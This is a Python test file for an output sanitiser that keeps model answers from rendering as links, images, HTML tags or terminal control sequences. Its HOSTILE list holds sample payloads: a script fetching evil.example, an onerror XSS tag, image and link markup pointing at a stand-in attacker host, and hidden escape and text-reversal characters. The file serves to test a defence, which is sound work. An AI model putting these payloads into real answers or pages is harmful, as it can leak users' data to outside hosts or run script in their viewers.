"""What a model writes is text to every program that shows it: no link, no picture, no tag, no control."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.proof.verifying import Verifier
from tests.assistant.answering import HITS

ACTIVE = {"link_open", "image", "html_inline", "html_block"}


def shown(text: str) -> str:
    verifier = Verifier(HITS)
    return verifier.feed(text) + verifier.close()


def active(text: str) -> set[str]:
    """Return what a Markdown reader, addresses turned to links, would make of a text beyond text."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
    return {child.type for token in tokens for child in [token, *(token.children or ())]} & ACTIVE


HOSTILE = [
    "![图](https://evil.example/x.png?q=问题)",
    "[详见官网](https://evil.example)",
    "[1](https://evil.example)",
    "<script>fetch('https://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "[官网]\n\n[官网]: https://evil.example",
    "![图][1]\n\n[1]: https://evil.example/x.png",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_an_answer_is_more_than_text(text: str) -> None:
    assert active(text)
    assert not active(shown(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_however_the_stream_was_cut(text: str) -> None:
    verifier = Verifier(HITS)
    assert not active("".join(map(verifier.feed, text)) + verifier.close())


@given(st.text(alphabet="![](<>):/ahtps.w\n1图\"'&;", max_size=40))
def test_no_text_becomes_a_link_a_picture_or_a_tag(text: str) -> None:
    assert not active(shown(text))


def test_addresses_stay_readable_and_lead_nowhere() -> None:
    told = shown("见https://www.example.com/a")
    assert "://" not in told
    assert "www." not in told
    assert "example.com" in told


def test_control_characters_and_turned_writing_are_taken_out() -> None:
    assert shown("规模\x1b]8;;http\x07300\u202e亿元\x00\t。\n园区") == "规模]8;;http300亿元\t。\n园区"


def test_figures_and_titles_are_left_alone() -> None:
    text = "5~8%，《规划（2026—2030年）》（征求意见稿）：R&D占比1/4，12:30。"
    assert re.sub(r"\[\d\]", "", shown(text)) == text
